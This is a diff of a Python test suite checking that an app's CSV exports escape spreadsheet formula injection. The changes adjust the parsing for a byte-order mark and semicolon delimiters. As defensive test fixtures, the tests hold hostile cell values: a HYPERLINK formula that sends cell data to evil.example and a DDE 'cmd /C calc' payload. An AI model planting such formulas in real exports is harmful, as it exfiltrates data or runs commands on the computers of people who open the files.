@@ -32,7 +32,7 @@ HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Åpne")', "+47 cmd|' /C ca
 def test_text_excel_would_run_is_written_as_text(text: str) -> None:
     expected = "'" + text.replace("\r", "\n")
     assert spreadsheet_safe(text) == expected
-    header, row = list(csv.reader(io.StringIO(csv_text(["a"], [[text]]))))
+    header, row = list(csv.reader(io.StringIO(csv_text(["a"], [[text]]).removeprefix("\ufeff")), delimiter=";"))
     assert header == ["a"] and row == [expected]
 
 
@@ -56,7 +56,7 @@ def test_the_deadline_export_escapes_register_text(database: Database, tmp_path:
     assert sync_export(database.engine, path, as_of=AS_OF).ok
     with database.session() as session:
         rows = overview(session, AS_OF)
-    exported = list(csv.DictReader(io.StringIO(to_csv(rows))))
+    exported = list(csv.DictReader(io.StringIO(to_csv(rows).removeprefix("\ufeff")), delimiter=";"))
     mine = [row for row in exported if row["agreement_id"] == agreement_id]
     assert mine, "the agreement has milestones"
     for row in mine:
@@ -73,7 +73,7 @@ def test_the_attendee_export_escapes_names(database: Database) -> None:
                         dt.datetime(2026, 11, 24, tzinfo=dt.UTC))
     with database.session() as session:
         text = courses.participants_csv(courses.course_view(session, course.id), courses.participants(session, course.id))
-    row = list(csv.DictReader(io.StringIO(text)))[0]
+    row = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))[0]
     assert row["course_title"] == "'=1+1 kurs" and row["name"] == "'=cmd|' /C calc'!A0"
 
 
@@ -81,7 +81,7 @@ def test_the_announcement_report_escapes_names() -> None:
     announcement = Announcement(id=7, title="Nytt", text="Tekst", audience="all", created_by="x@y.no")
     report = Report(announcement, [ReportLine(name="+4799999999", email="@evil.example", aad_object_id="a", status="sent",
                                                detail="=BAD()")])
-    row = list(csv.DictReader(io.StringIO(report_csv(report))))[0]
+    row = list(csv.DictReader(io.StringIO(report_csv(report).removeprefix("\ufeff")), delimiter=";"))[0]
     assert (row["name"], row["email"], row["detail"]) == ("'+4799999999", "'@evil.example", "'=BAD()")
 
 
@@ -108,7 +108,7 @@ def test_cli_exports_of_a_hostile_register(tmp_path: Path, reference_register: P
     assert runner.invoke(cli, ["--database", url, "--as-of", AS_OF.isoformat(), "sync", str(path)]).exit_code == 0
     exported = runner.invoke(cli, ["--database", url, "--as-of", AS_OF.isoformat(), "alerts", "export", "--format", "csv"])
     assert exported.exit_code == 0, exported.output
-    assert f"{agreement_id},'=2+5," in exported.output
+    assert f"{agreement_id};'=2+5;" in exported.output
     ics = runner.invoke(cli, ["--database", url, "--as-of", AS_OF.isoformat(), "alerts", "export", "--format", "ics",
                               "--out", str(tmp_path / "frister.ics")])
     assert ics.exit_code == 0, ics.output
